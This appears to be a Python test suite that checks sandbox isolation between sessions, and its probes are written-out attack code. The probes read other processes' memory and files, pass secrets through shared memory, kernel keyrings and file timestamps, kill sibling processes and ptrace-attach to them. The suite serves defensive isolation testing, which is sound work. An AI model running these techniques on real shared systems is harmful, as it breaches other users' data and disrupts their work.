"""Attacks on other sessions: seeing, reading and hurting them, and leaving notes for later ones."""

import asyncio
import json
import secrets
from textwrap import dedent

from adversary.arenas import Arena, Attacker, canary
from adversary.probing import PEEK, PRELUDE, VICTIM, Topic, attacker, says

probe = Topic("other sessions")


async def _sibling(arena: Arena, body: str, plant: str, **limits: object) -> tuple[str, str, Attacker]:
    """(the secret of a sibling of the same toolset, what the attack says, the sibling)."""
    secret = canary()
    sibling, hostile = await arena.open(VICTIM + PRELUDE + body, 2, **limits)
    await sibling.call(plant, {"item": secret})
    outcome = await hostile.call("attack", {"facts": arena.facts})
    await hostile.close()
    return secret, outcome.text or "", sibling


@probe
async def names_of_processes(arena: Arena) -> bool:
    body = 'def attack(facts): return [_read(f"/proc/{pid}/comm").decode() for pid in _pids(facts)]'
    _, said, sibling = await _sibling(arena, body, "leave_file")
    await sibling.close()
    return "esc-victim" in said


@probe
async def their_memory(arena: Arena) -> bool:
    body = PEEK + dedent(
        """
        def attack(facts):
            pids = [pid for pid in _pids(facts) if pid not in facts["pids"]]
            spans = [(pid, start, size) for pid in pids for start, size in _maps(pid) if size < 1 << 23]
            return _canaries([_peek(*span) for span in spans] + [_vm_read(*span) for span in spans])
        """
    )
    secret, said, sibling = await _sibling(
        arena, body, "hold", memory_bytes=1 << 30, call_seconds=20, output_bytes=4 << 20
    )
    await sibling.close()
    return secret in said


_SEARCH = dedent(
    """
    def _everywhere(facts):
        roots = ["..", "/tmp", "/dev/shm", "/var/tmp", "/scratch"]
        for pid in _pids(facts):
            for link in ("cwd", "root/tmp"):
                try:
                    roots.append(os.readlink(f"/proc/{pid}/{link}") if link == "cwd" else f"/proc/{pid}/{link}")
                    roots.append(f"/proc/{pid}/cwd/")
                except OSError:
                    continue
        return sorted(set(roots))
    def attack(facts):
        return _canaries(_read(path, 4096) for path in _walk(*_everywhere(facts)) if "leftover" in path)
    """
)


@probe
async def their_files(arena: Arena) -> bool:
    secret, said, sibling = await _sibling(arena, _SEARCH, "leave_file", call_seconds=15)
    await sibling.close()
    return secret in said


@probe
async def leftovers_of_an_earlier_one(arena: Arena) -> bool:
    secret = canary()
    earlier = (await arena.open(VICTIM))[0]
    await earlier.call("leave_file", {"item": secret})
    await earlier.close()
    await asyncio.sleep(0.3)
    return secret in await says(arena, _SEARCH, call_seconds=15)


@probe
async def what_another_toolset_left_in_shared_memory(arena: Arena) -> bool:
    """System V segments and kernel keys have no owner process: they outlive it."""
    secret = canary()
    leave = f"""
def attack(facts):
    done = 0
    segment = _libc.shmget(0x415354, 4096, 0o1666)
    _libc.shmat.restype = ctypes.c_void_p
    address = _libc.shmat(segment, None, 0) if segment != -1 else None
    if address not in (None, 2**64 - 1):
        ctypes.memmove(address, {secret.encode()!r}, {len(secret)})
        done += 1
    key = _libc.syscall(248, b"user", b"astra-adversary", {secret.encode()!r}, {len(secret)}, -4)
    return done + (key != -1)
"""
    take = """
def attack(facts):
    chunks = []
    segment = _libc.shmget(0x415354, 4096, 0o666)
    _libc.shmat.restype = ctypes.c_void_p
    address = _libc.shmat(segment, None, 0) if segment != -1 else None
    if address not in (None, 2**64 - 1):
        chunks.append(ctypes.string_at(address, 100))
        _libc.shmdt(ctypes.c_void_p(address))
        _libc.shmctl(segment, 0, None)
    key = _libc.syscall(249, b"user", b"astra-adversary", None, 0)
    buffer = ctypes.create_string_buffer(100)
    if key != -1 and _libc.syscall(250, 11, key, buffer, 100) > 0:
        chunks.append(buffer.raw)
    return _canaries(chunks)
"""
    await says(arena, leave)
    return secret in await says(arena, take)


_NOTES = """
_PLACES = [
    *(".", "..", "../..", "../../..", "/", "/tmp", "/dev/shm", "/var/tmp", "/root", "/lib", "/usr/lib", "/run"),
    *("/scratch", "/scratch/sessions", "/proc/self/cwd", os.path.dirname(os.getcwd())),
]
def leave(item):
    left = []
    for place in _PLACES:
        try:
            with open(f"{place}/leftover-note", "w") as file:
                file.write(item)
            left.append(place)
        except OSError:
            pass
    return left
def find():
    return _canaries(_read(f"{place}/leftover-note") for place in _PLACES)
def sign(facts, number):
    signed = []
    for path in [*facts["files"], *facts["tokens"], "/", "/python.zip", "/scratch", "..", "../.."]:
        try:
            os.utime(path, (number, number))
            signed.append(path)
        except OSError:
            pass
    return signed
def signed(facts):
    times = []
    for path in [*facts["files"], *facts["tokens"], "/", "/python.zip", "/scratch", "..", "../.."]:
        try:
            times.append(int(os.stat(path).st_mtime))
        except OSError:
            pass
    return times
"""


@probe
async def notes_beside_its_folder(arena: Arena) -> bool:
    """Read by a sibling of the same toolset, or by a session of another one, wherever it could be left."""
    secret = canary()
    writer, sibling = await arena.open(PRELUDE + _NOTES, 2)
    stranger = await attacker(arena, "# another toolset\\n" + _NOTES)
    await writer.call("leave", {"item": secret})
    found = [await session.call("find") for session in (sibling, stranger)]
    for session in (writer, sibling, stranger):
        await session.close()
    return any(secret in (outcome.text or "") for outcome in found)


@probe
async def notes_in_memory_that_forks_share(arena: Arena) -> bool:
    """Memory that a source maps as it loads, for all processes that are forked from its own."""
    secret = canary()
    body = """
        try:
            _SHARED = mmap.mmap(-1, 4096)
        except OSError:
            _SHARED = bytearray(4096)
        def leave(item):
            _SHARED[: len(item)] = item.encode()
        def find():
            return _canaries([bytes(_SHARED[:4096])])
        """
    writer, sibling = await arena.open(PRELUDE + dedent(body), 2)
    await writer.call("leave", {"item": secret})
    outcome = await sibling.call("find")
    for session in (writer, sibling):
        await session.close()
    return secret in (outcome.text or "")


@probe
async def notes_in_a_file_that_a_source_maps(arena: Arena) -> bool:
    """As it loads, anywhere it can: every process that is forked from its own has that memory."""
    secret = canary()
    body = """
        _PAGES = []
        for _place in (".", "..", "../..", "/tmp", "/dev/shm", "/var/tmp", "/scratch", "/run", os.path.expanduser("~")):
            _path = f"{_place}/leftover-{secrets.token_hex(8)}"
            try:
                with open(_path, "w+b") as _file:
                    _file.truncate(4096)
                    _PAGES.append(mmap.mmap(_file.fileno(), 4096))
                os.unlink(_path)
            except OSError:
                pass
        def leave(item):
            for page in _PAGES:
                page[: len(item)] = item.encode()
        def find():
            return _canaries([page[:] for page in _PAGES])
        """
    writer, sibling = await arena.open(PRELUDE + "import secrets\n" + dedent(body), 2)
    await writer.call("leave", {"item": secret})
    outcome = await sibling.call("find")
    for session in (writer, sibling):
        await session.close()
    return secret in (outcome.text or "")


@probe
async def notes_in_the_times_of_files(arena: Arena) -> bool:
    """A number that a session writes as the time of a file that others see too."""
    number = 1_000_000_000 + secrets.randbelow(1_000_000)
    writer, reader = await arena.open(PRELUDE + _NOTES, 2)
    await writer.call("sign", {"facts": arena.facts, "number": number})
    outcome = await reader.call("signed", {"facts": arena.facts})
    for session in (writer, reader):
        await session.close()
    return number in json.loads(outcome.text or "[]")


@probe
async def signals_to_each_process(arena: Arena) -> bool:
    body = dedent(
        """
        def attack(facts):
            others = [pid for pid in _pids(facts) if pid not in facts["pids"] and pid not in (1, os.getppid())]
            done = 0
            for pid in others:
                try:
                    if b"esc-victim" in _read(f"/proc/{pid}/comm") or not os.path.exists("/proc/self/comm"):
                        os.kill(pid, signal.SIGKILL)
                        done += 1
                except OSError:
                    continue
            return done
        """
    )
    _, _, sibling = await _sibling(arena, body, "leave_file")
    return not await _unhurt(sibling)


@probe
async def tracing_another_session(arena: Arena) -> bool:
    body = dedent(
        """
        def attack(facts):
            return [pid for pid in _pids(facts) if pid != 1 and pid not in facts["pids"] and pid != os.getppid()
                    and b"esc-" in (_read(f"/proc/{pid}/comm") or b"esc-") and _libc.ptrace(16, pid, 0, 0) == 0]
        """
    )
    _, said, sibling = await _sibling(arena, body, "leave_file")
    await sibling.close()
    return said not in ("", "[]")


async def _unhurt(sibling: Attacker) -> bool:
    """Whether a sibling still holds what it held, in its process."""
    outcome = await sibling.call("held")
    with_file = await sibling.call("identity")
    return outcome.text is not None and with_file.text is not None
